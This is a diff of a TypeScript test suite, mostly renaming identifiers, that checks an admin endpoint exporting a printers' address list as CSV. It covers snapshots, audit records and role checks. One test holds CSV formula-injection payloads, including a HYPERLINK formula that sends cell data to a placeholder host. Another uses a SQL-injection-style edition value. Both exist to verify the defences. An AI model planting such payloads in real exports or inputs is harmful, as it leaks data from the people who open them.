@@ -1,23 +1,23 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { z } from 'zod'
 import { PrintEdition } from '#shared/contracts/printed-edition.ts'
-import { type AccountsUnderTest, type ReaderUnderTest, startAccountsUnderTest } from './accounts-under-test.ts'
+import { type AccountsFixture, type TestReader, startAccountsFixture } from './accounts-under-test.ts'
 import { bodyOf, codeOf, problemOf } from './api-under-test.ts'
-import { type JobsUnderTest, startJobsUnderTest } from './jobs-under-test.ts'
+import { type JobsFixture, startJobsFixture } from './jobs-under-test.ts'
 
-let api: AccountsUnderTest
-let jobs: JobsUnderTest
-let owner: ReaderUnderTest
-let support: ReaderUnderTest
+let api: AccountsFixture
+let jobs: JobsFixture
+let owner: TestReader
+let support: TestReader
 beforeAll(async () => {
-  api = await startAccountsUnderTest()
-  jobs = await startJobsUnderTest(api)
+  api = await startAccountsFixture()
+  jobs = await startJobsFixture(api)
   owner = await api.newReader({ role: 'owner' })
   support = await api.newReader({ role: 'support' })
 })
 afterAll(() => api?.stop())
 
-const quay = {
+const quayAddress = {
   firstName: 'Zoë',
   lastName: 'Łukasz',
   addressLine1: '1 Quay Street, "The Mill"',
@@ -30,115 +30,115 @@ const columns = '\uFEFFFull name,Address line 1,Address line 2,City,State,Postal
 /** A reader whose plan brings the printed edition, at this address if there is one. */
 async function newPatron(address?: object) {
   const reader = await api.newReader()
-  if (address) expect((await reader.send('/user/addresses', { ...quay, ...address, isDefault: true })).status).toBe(201)
+  if (address) expect((await reader.send('/user/addresses', { ...quayAddress, ...address, isDefault: true })).status).toBe(201)
   await api.owner`update subscriptions set plan_id = 'patron_ledger', source = 'complimentary', reason = 'For a test',
     current_period_end = now() + interval '1 year' where user_id = ${reader.id}`
   return reader
 }
 
 /** Only these are sent the editions of this test. */
-async function onlyPatrons(...addresses: (object | undefined)[]) {
+async function replacePatrons(...addresses: (object | undefined)[]) {
   await api.owner`update subscriptions set status = 'canceled', ended_at = now() where plan_id = 'patron_ledger'`
   return Promise.all(addresses.map(newPatron))
 }
 
-let months = 0
+let editionCount = 0
 /** An edition of long ago, whose list the rounds find due, or not before two days have passed. */
 async function newEdition({ isDue }: { isDue: boolean }): Promise<string> {
-  const month = `1998-${String(++months).padStart(2, '0')}`
+  const month = `1998-${String(++editionCount).padStart(2, '0')}`
   await api.owner`insert into print_editions (month, closes_at, reminded_at)
     values (${month}, now() + ${isDue ? '-1 second' : '2 days'}::interval, now())`
   if (isDue) await jobs.run()
   return month
 }
 
-const editionOf = async (month: string, who = support) => {
-  const answer = await who.get('/admin/print-editions')
-  expect([answer.status, answer.headers.get('cache-control')]).toEqual([200, 'no-store'])
-  return (await bodyOf(answer, z.array(PrintEdition))).find(({ edition }) => edition === month)
+const findEdition = async (month: string, actor = support) => {
+  const response = await actor.get('/admin/print-editions')
+  expect([response.status, response.headers.get('cache-control')]).toEqual([200, 'no-store'])
+  return (await bodyOf(response, z.array(PrintEdition))).find(({ edition }) => edition === month)
 }
-const take = (month: string, who = owner) => who.get(`/admin/print-editions/${month}/list`)
+const downloadList = (month: string, actor = owner) => actor.get(`/admin/print-editions/${month}/list`)
 /** Its lines, as they came over the wire. */
-async function linesOf(answer: Response): Promise<string[]> {
-  expect(answer.status).toBe(200)
-  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.arrayBuffer())
+async function linesOf(response: Response): Promise<string[]> {
+  expect(response.status).toBe(200)
+  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer())
   expect(text.endsWith('\r\n')).toBe(true)
   return text.slice(0, -2).split('\r\n')
 }
-const deedsOf = async (month: string) => [
+const auditEventsOf = async (month: string) => [
   ...(await api.owner`select kind, staff_id, member_id from private.desk_deeds where edition = ${month}`),
 ]
 
 describe('a list for the printers', () => {
   test('is what was written down when it was closed, also when addresses change and readers go', async () => {
-    const [zoe, bea] = await onlyPatrons(
+    const [zoe, bea] = await replacePatrons(
       { addressLine2: 'Flat 2', state: 'NSW' },
       { firstName: 'Bea', lastName: 'Ash', postalCode: '1100' },
       undefined,
     )
     const month = await newEdition({ isDue: true })
-    expect(await editionOf(month)).toMatchObject({ isClosed: true, copies: 2, withoutAddress: 1, taken: null })
+    expect(await findEdition(month)).toMatchObject({ isClosed: true, copies: 2, withoutAddress: 1, taken: null })
     const expected = [
       columns,
       'Bea Ash,"1 Quay Street, ""The Mill""",,Sydney,,1100,Australia,1',
       'Zoë Łukasz,"1 Quay Street, ""The Mill""",Flat 2,Sydney,NSW,2000,Australia,1',
     ]
-    const answer = await take(month)
-    expect(Object.fromEntries(answer.headers)).toMatchObject({
+    const response = await downloadList(month)
+    expect(Object.fromEntries(response.headers)).toMatchObject({
       'content-type': 'text/csv; charset=utf-8; header=present',
       'content-disposition': `attachment; filename="printers-${month}.csv"`,
       'cache-control': 'no-store',
       'x-content-type-options': 'nosniff',
     })
-    expect(await linesOf(answer)).toEqual(expected)
-    await zoe?.send('/user/addresses', { ...quay, addressLine1: '9 Elsewhere', isDefault: true })
-    expect(await linesOf(await take(month))).toEqual(expected)
+    expect(await linesOf(response)).toEqual(expected)
+    await zoe?.send('/user/addresses', { ...quayAddress, addressLine1: '9 Elsewhere', isDefault: true })
+    expect(await linesOf(await downloadList(month))).toEqual(expected)
     await api.owner`delete from auth.users where id = ${bea?.id ?? ''}`
-    expect(await linesOf(await take(month))).toEqual([columns, expected[2]])
+    expect(await linesOf(await downloadList(month))).toEqual([columns, expected[2]])
   })
 
   test('is written down as taken, each time, by whom', async () => {
-    await onlyPatrons()
+    await replacePatrons()
     const month = await newEdition({ isDue: true })
-    expect(await linesOf(await take(month))).toEqual([columns])
+    expect(await linesOf(await downloadList(month))).toEqual([columns])
     const other = await api.newReader({ role: 'owner' })
-    await take(month, other)
-    const deed = { kind: 'print-list-taken', member_id: null }
-    expect(await deedsOf(month)).toEqual([
-      { ...deed, staff_id: owner.id },
-      { ...deed, staff_id: other.id },
+    await downloadList(month, other)
+    const auditEvent = { kind: 'print-list-taken', member_id: null }
+    expect(await auditEventsOf(month)).toEqual([
+      { ...auditEvent, staff_id: owner.id },
+      { ...auditEvent, staff_id: other.id },
     ])
-    const { lastDownload } = (await editionOf(month)) ?? {}
+    const { lastDownload } = (await findEdition(month)) ?? {}
     expect(lastDownload?.by).toBe(`${other.firstName} ${other.lastName}`)
     expect(Date.now() - Date.parse(lastDownload?.at ?? '')).toBeLessThan(60_000)
   })
 
   test('reckons nothing out in a spreadsheet', async () => {
-    const hostile = ['=HYPERLINK("https://a.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '＝1']
-    await onlyPatrons(
-      ...hostile.map((addressLine1) => ({ addressLine1, addressLine2: addressLine1, city: addressLine1 })),
+    const formulaInjections = ['=HYPERLINK("https://a.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '＝1']
+    await replacePatrons(
+      ...formulaInjections.map((addressLine1) => ({ addressLine1, addressLine2: addressLine1, city: addressLine1 })),
     )
-    const lines = await linesOf(await take(await newEdition({ isDue: true })))
+    const lines = await linesOf(await downloadList(await newEdition({ isDue: true })))
     expect(lines).toHaveLength(6)
     for (const line of lines.slice(1)) expect(line.match(/(^|,)"?[=+\-@＝]/)).toBeNull()
     expect(lines.join('\n')).toContain('"\'=HYPERLINK(""https://a.example/?""&A1)"')
   })
 
   test('cannot be had while it is open, or of an edition that there is not', async () => {
-    await onlyPatrons({}, undefined)
+    await replacePatrons({}, undefined)
     const month = await newEdition({ isDue: false })
-    expect(await editionOf(month)).toMatchObject({ isClosed: false, copies: 1, withoutAddress: 1, taken: null })
-    const refused = await problemOf(await take(month))
-    expect([refused.status, refused.detail]).toEqual([409, expect.stringContaining('still open')])
+    expect(await findEdition(month)).toMatchObject({ isClosed: false, copies: 1, withoutAddress: 1, taken: null })
+    const rejected = await problemOf(await downloadList(month))
+    expect([rejected.status, rejected.detail]).toEqual([409, expect.stringContaining('still open')])
     for (const edition of ['1997-01', '1998-13', 'all', "1998-01'--", '%00'])
-      expect([edition, await codeOf(await take(edition))]).toEqual([edition, 'not-found'])
-    expect(await deedsOf(month)).toEqual([])
+      expect([edition, await codeOf(await downloadList(edition))]).toEqual([edition, 'not-found'])
+    expect(await auditEventsOf(month)).toEqual([])
   })
 
   test('is for owners; how the editions stand for owners and support; nothing of it for anybody else', async () => {
-    await onlyPatrons({})
+    await replacePatrons({})
     const month = await newEdition({ isDue: true })
-    const seen = async (path: string, who: ReaderUnderTest) => (await who.get(`/admin/print-editions${path}`)).status
+    const statusFor = async (path: string, actor: TestReader) => (await actor.get(`/admin/print-editions${path}`)).status
     for (const [role, overview, list] of [
       ['owner', 200, 200],
       ['support', 200, 403],
@@ -146,12 +146,12 @@ describe('a list for the printers', () => {
       ['author', 403, 403],
       [undefined, 403, 403],
     ] as const) {
-      const who = await api.newReader(role ? { role } : {})
-      expect([role, await seen('', who), await seen(`/${month}/list`, who)]).toEqual([role, overview, list])
+      const actor = await api.newReader(role ? { role } : {})
+      expect([role, await statusFor('', actor), await statusFor(`/${month}/list`, actor)]).toEqual([role, overview, list])
       // Past the API too: the functions ask who it is.
       const past = await api.owner
         .begin(async (tx) => {
-          await tx`select set_config('request.jwt.claims', ${JSON.stringify({ sub: who.id })}, true)`
+          await tx`select set_config('request.jwt.claims', ${JSON.stringify({ sub: actor.id })}, true)`
           await tx`set local role authenticated`
           const editions = await tx`select from private.printed_editions()`
           expect([role, editions.length > 0]).toEqual([role, overview === 200])
@@ -161,6 +161,6 @@ describe('a list for the printers', () => {
       expect([role, past]).toEqual([role, list === 200 ? 1 : '42501'])
     }
     for (const path of ['', `/${month}/list`]) expect((await api.get(`/admin/print-editions${path}`)).status).toBe(401)
-    expect(await deedsOf(month)).toHaveLength(2)
+    expect(await auditEventsOf(month)).toHaveLength(2)
   })
 })
